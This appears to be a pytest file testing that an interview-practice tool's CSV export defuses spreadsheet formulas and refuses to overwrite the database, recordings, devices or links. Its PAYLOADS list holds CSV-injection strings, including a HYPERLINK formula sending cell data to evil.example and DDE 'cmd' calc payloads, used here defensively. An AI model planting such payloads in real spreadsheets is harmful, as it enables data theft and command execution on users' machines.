"""Exports that cannot hurt: no formula runs in a spreadsheet, no file is overwritten
that should not be (the database, recordings, devices, links, or anything without --force)."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest

from interview.cli import main
from interview.config import Settings
from interview.errors import HistoryError
from interview.history.export import export_csv, export_json
from interview.history.store import HistoryStore
from interview.models import Question

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_export_defuses_formulas_and_json_keeps_them_exact(
    store: HistoryStore, tmp_path: Path, payload: str
) -> None:
    question = Question("q-x", payload, "behavioral", "teamwork")
    store.save_attempt(question, answer_text=payload)
    export_csv(store, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
        row = next(iter(csv.DictReader(handle)))
    assert row["question_text"] == "'" + payload and row["answer"] == "'" + payload
    export_json(store, tmp_path / "out.json")
    attempt = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))["attempts"][0]
    assert attempt["question_text"] == payload and attempt["answer_text"] == payload


@pytest.mark.parametrize("value", ["plain text", "I saved 20% = $4k", "", None, -3.5, 71, True])
def test_ordinary_cells_pass_unchanged(value: object) -> None:
    from interview.history.spreadsheet import spreadsheet_cell

    assert spreadsheet_cell(value) == value


def _saved(store: HistoryStore) -> None:
    store.save_attempt(Question("q", "Why?", "hr", "communication"), answer_text="Because.")


@pytest.mark.parametrize("name", ["interview.db", "interview.db-wal", "interview.db-shm"])
def test_export_refuses_the_database_and_its_companions(
    store: HistoryStore, interview_home: Path, name: str
) -> None:
    _saved(store)
    before = (interview_home / "interview.db").read_bytes()
    with pytest.raises(HistoryError, match="history database"):
        export_json(store, interview_home / name, force=True)
    assert (interview_home / "interview.db").read_bytes() == before
    assert store.count_attempts() == 1


def test_export_refuses_the_recordings_folder(store: HistoryStore) -> None:
    store.save_attempt(Question("q", "Why?", "hr", "communication"), recording=b"RIFF")
    folder = store.recordings.folder
    for target in (folder, folder / "export.csv"):
        with pytest.raises(HistoryError, match="recordings folder"):
            export_csv(store, target, force=True)


def test_export_refuses_devices_folders_and_links_to_them(
    store: HistoryStore, tmp_path: Path
) -> None:
    link = tmp_path / "null-link"
    link.symlink_to("/dev/null")
    dangling = tmp_path / "dangling"
    dangling.symlink_to(tmp_path / "nowhere")
    for target in (Path("/dev/null"), link, tmp_path):
        with pytest.raises(HistoryError, match="not a regular file"):
            export_csv(store, target, force=True)
    with pytest.raises(HistoryError, match="link to nothing"):
        export_csv(store, dangling, force=True)
    assert Path("/dev/null").is_char_device() and link.is_symlink()


def test_an_existing_file_is_replaced_only_with_force_and_a_link_stays_a_link(
    store: HistoryStore, tmp_path: Path
) -> None:
    _saved(store)
    existing = tmp_path / "export.json"
    existing.write_text("my notes")
    with pytest.raises(HistoryError, match="already exists; add --force"):
        export_json(store, existing)
    assert existing.read_text() == "my notes"
    link = tmp_path / "latest.json"
    link.symlink_to(existing)
    assert export_json(store, link, force=True) == 1
    assert link.is_symlink() and json.loads(existing.read_text())["attempts"]


def test_cli_export_over_the_database_is_an_error_not_a_replacement(
    interview_home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = HistoryStore.open()
    _saved(store)
    database = Settings.from_env().home / "interview.db"
    status = main(["history", "export", "--format", "csv", "--output", str(database)])
    err = capsys.readouterr().err
    assert status == 2 and err.startswith("error: ") and "history database" in err
    assert store.count_attempts() == 1 and os.path.getsize(database) > 0
    store.close()
